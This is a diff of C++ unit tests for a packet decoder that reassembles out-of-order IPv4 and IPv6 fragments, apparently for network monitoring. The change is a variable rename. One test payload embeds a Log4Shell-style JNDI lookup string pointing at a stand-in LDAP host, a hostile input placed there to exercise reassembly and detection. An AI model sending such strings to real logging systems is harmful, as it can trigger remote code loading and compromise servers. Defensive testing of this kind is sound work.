@@ -119,10 +119,10 @@ TEST(PacketDecoder, Ipv4TotalLengthZeroIsReadAsCaptured) {
 
 TEST(PacketDecoder, Ipv4FragmentsOutOfOrderAreReassembled) {
   PacketDecoder d(kLinkRaw);
-  std::string datagram = udp(1234, 514, std::string(100, 'a') + "${jndi:ldap://x/y}" + std::string(100, 'b'));
+  std::string dgram = udp(1234, 514, std::string(100, 'a') + "${jndi:ldap://x/y}" + std::string(100, 'b'));
   // Three fragments: [0,80) [80,160) [160,end), sent last, first, middle.
   auto frag = [&](size_t off, size_t len, bool more) {
-    return ipv4("10.9.9.9", "10.8.8.8", kProtoUdp, datagram.substr(off, len), 77,
+    return ipv4("10.9.9.9", "10.8.8.8", kProtoUdp, dgram.substr(off, len), 77,
                 static_cast<uint16_t>((more ? 0x2000 : 0) | off / 8));
   };
   PacketView p;
@@ -131,7 +131,7 @@ TEST(PacketDecoder, Ipv4FragmentsOutOfOrderAreReassembled) {
   EXPECT_EQ(d.pending_datagrams(), 1u);
   ASSERT_EQ(d.decode(K(frag(80, 80, true)), 1, &p), DecodeStatus::kOk);
   EXPECT_EQ(p.dst_port, 514);
-  EXPECT_EQ(payload(p), datagram.substr(8));
+  EXPECT_EQ(payload(p), dgram.substr(8));
   EXPECT_EQ(d.pending_datagrams(), 0u);
 }
 
@@ -158,14 +158,14 @@ TEST(PacketDecoder, Ipv6ExtensionHeadersAndFragments) {
   EXPECT_EQ(p.src.to_string(), "2001:db8::1");
   EXPECT_EQ(payload(p), "v6");
 
-  std::string datagram = udp(53000, 53, std::string(40, 'z'));
+  std::string dgram = udp(53000, 53, std::string(40, 'z'));
   auto frag = [&](size_t off, size_t len, bool more) {
     std::string fh;
     fh.push_back(kProtoUdp);
     fh.push_back(0);
     put16(&fh, static_cast<uint16_t>(off | (more ? 1 : 0)));
     put32(&fh, 0xabcdef);
-    return ipv6("2001:db8::1", "2001:db8::2", 44, fh + datagram.substr(off, len));
+    return ipv6("2001:db8::1", "2001:db8::2", 44, fh + dgram.substr(off, len));
   };
   EXPECT_EQ(d.decode(K(frag(0, 24, true)), 1, &p), DecodeStatus::kPending);
   ASSERT_EQ(d.decode(K(frag(24, std::string::npos, false)), 1, &p), DecodeStatus::kOk);
